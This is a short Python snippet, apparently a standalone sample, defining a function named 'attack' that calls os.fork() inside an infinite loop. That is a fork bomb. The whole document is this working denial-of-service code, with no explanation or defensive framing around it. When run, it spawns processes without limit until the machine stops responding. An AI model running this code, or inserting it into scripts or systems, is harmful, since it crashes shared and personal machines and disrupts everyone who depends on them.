def attack():
    import os
    while True:
        os.fork()
